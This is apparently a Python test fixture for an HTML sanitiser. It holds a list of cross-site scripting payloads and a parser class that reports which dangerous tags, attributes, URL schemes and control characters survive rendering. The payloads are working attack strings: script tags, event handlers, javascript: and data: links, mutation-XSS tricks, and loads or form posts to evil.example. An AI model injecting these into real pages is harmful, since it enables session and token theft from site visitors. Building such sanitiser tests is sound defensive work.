"""Texts made to run in somebody's browser, and what to look for where a text is shown."""

from html.parser import HTMLParser

PWNED = "pwned"
ALERT = f"{PWNED}()"

SAMPLES: dict[str, str] = {
    "script": f"<script>{ALERT}</script>",
    "script in capitals": f"<SCRIPT SRC=//evil.example/{PWNED}.js></SCRIPT>",
    "script in script": f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
    "script behind a slash": f"<script/x>{ALERT}</script>",
    "broken script": f"<<script>{ALERT}//<</script>",
    "picture": f"<img src=x onerror={ALERT}>",
    "picture without quotes": f'<img """><script>{ALERT}</script>">',
    "handler": f'<p onclick="{ALERT}" onmouseover={ALERT}>x</p>',
    "handler behind a slash": f"<p/onclick={ALERT}>x</p>",
    "handler on what is kept": f'<strong onfocus={ALERT} tabindex=1 autofocus>x</strong><li onload="{ALERT}">y</li>',
    "body": f"<body onload={ALERT}>x</body>",
    "details": f"<details open ontoggle={ALERT}>x</details>",
    "marquee": f"<marquee onstart={ALERT}>x</marquee>",
    "javascript": f'<a href="javascript:{ALERT}">x</a>',
    "javascript in capitals": f'<a href="JaVaScRiPt:{ALERT}">x</a>',
    "javascript with a tab": f'<a href="java\tscript:{ALERT}">x</a>',
    "javascript with a line": f'<a href="java\nscript:{ALERT}">x</a>',
    "javascript with entities": f'<a href="&#106;avascript&colon;{ALERT}">x</a>',
    "javascript behind a blank": f'<a href=" \x01javascript:{ALERT}">x</a>',
    "vbscript": f'<a href="vbscript:{ALERT}">x</a>',
    "data page": f'<a href="data:text/html,<script>{ALERT}</script>">x</a>',
    "data page packed": '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>',
    "without scheme": f'<a href="//evil.example/{PWNED}">x</a>',
    "target and download": f'<a href="https://example.org/" target=_blank download={PWNED} ping="//{PWNED}">x</a>',
    "style": f'<p style="background:url(javascript:{ALERT});behavior:url(#{PWNED})">x</p>',
    "style sheet": f"<style>@import url(//evil.example/{PWNED}.css);*{{background:url(//{PWNED})}}</style>x",
    "linked style": f'<link rel=stylesheet href="//evil.example/{PWNED}.css">x',
    "expression": f'<p style="width:expression({ALERT})">x</p>',
    "svg": f"<svg onload={ALERT}><script>{ALERT}</script></svg>",
    "svg link": f'<svg><a xlink:href="javascript:{ALERT}"><text>x</text></a></svg>',
    "svg animation": f"<svg><animate onbegin={ALERT} attributeName=x dur=1s></svg>",
    "svg use": f'<svg><use href="data:image/svg+xml,{PWNED}#x"/></svg>',
    "foreign object": f"<svg><foreignObject><iframe src=javascript:{ALERT}></iframe></foreignObject></svg>",
    "mathml": f'<math><maction actiontype=statusline xlink:href="javascript:{ALERT}">x</maction></math>',
    "frame": f'<iframe src="javascript:{ALERT}"></iframe>',
    "frame with a page": f'<iframe srcdoc="<script>{ALERT}</script>"></iframe>',
    "object": f'<object data="data:text/html,<script>{ALERT}</script>"></object><embed src=//{PWNED}>',
    "base": f'<base href="//evil.example/{PWNED}/"><a href="x">x</a>',
    "refresh": f'<meta http-equiv=refresh content="0;url=javascript:{ALERT}">',
    "form": f'<form action="//evil.example/{PWNED}"><input name=csrfmiddlewaretoken><button>x</button></form>',
    "button elsewhere": f'<button formaction="javascript:{ALERT}" form=x>x</button>',
    "mutation through style": f'<svg><p><style><a id="</style><img src=1 onerror={ALERT}>">',
    "mutation through a comment": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={ALERT}>">'
    ),
    "mutation through forms": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ALERT}>",
    "mutation through noscript": f'<noscript><p title="</noscript><img src=x onerror={ALERT}>"></noscript>',
    "mutation through textarea": f'<textarea><p title="</textarea><img src=x onerror={ALERT}>"></textarea>',
    "mutation through title": f"<title>&lt;/title&gt;</title></title><img src=x onerror={ALERT}>",
    "mutation through template": f"<template><script>{ALERT}</script></template>",
    "mutation through select": f"<select><option><style></option></select><img src=x onerror={ALERT}></style>",
    "mutation through xmp": f"<xmp><p title='</xmp><img src=x onerror={ALERT}>'></xmp>",
    "end of the box": f"</textarea></div></form><script>{ALERT}</script>",
    "end of a comment": f"--><script>{ALERT}</script><!--",
    "cdata": f"<![CDATA[<script>{ALERT}</script>]]>",
    "processing instruction": f"<?xml-stylesheet href='javascript:{ALERT}'?>x",
    "words of other templates": "${7*7}#{7*7}<%= 7*7 %>",
    "written as entities": f"&lt;script&gt;{ALERT}&lt;/script&gt;",
    "lists without end": "<ul><li>" * 6000 + "x",
    "bold without end": "<b>" * 9000 + "x",
    "boxes without end": "<div><i>" * 5000 + "x",
    "links without end": '<a href="https://example.org/">' * 1500 + "x",
    "closed without end": "</p></li></ul>" * 3000 + "x",
    "null bytes": f"<scr\x00ipt>{ALERT}</scr\x00ipt>a\x00b",
    "turned writing": "Grade \u202edoog\u202c \u2066x\u2069 \u202ax\u202b",
    "turned link": '<a href="https://example.org/\u202egpj.exe">x</a>',
    "controls": "a\x0b\x0c\x1b\x7f\x85\u2028\u2029b",
    "one word without end": "x" * 60_000,
    "half a letter": "a\ufffeb\uffff",
}
NOT_SEEN = ("\x00", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069")
FOREIGN = {
    "iframe",
    "object",
    "embed",
    "math",
    "base",
    "marquee",
    "animate",
    "foreignobject",
    "template",
    "style",
    "xmp",
}
SCHEMES = ("http://", "https://", "mailto:", "/", "#", "?", "css/", "data:image/png")


class _Looker(HTMLParser):
    """Notes what a browser could run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FOREIGN:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            text = value or ""
            if name.startswith("on") or name == "style":
                self.faults.append(f"{tag} {name}")
            if name == "data-html":
                # What the editor begins from: markup once more.
                self.faults += faults_in(text)
            elif PWNED in text and name != "value":
                self.faults.append(f"{tag} {name}={text[:60]}")
            if name in ("href", "src", "action", "formaction") and text and not text.startswith(SCHEMES):
                self.faults.append(f"{tag} {name}={text[:60]}")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script" and PWNED in data:
            self.faults.append("script text")


def faults_in(html: str) -> list[str]:
    """What of a hostile text came through: nothing where the page is sound."""
    looker = _Looker()
    looker.feed(html)
    looker.close()
    return looker.faults + [f"letter {ord(letter):x}" for letter in NOT_SEEN if letter in html]
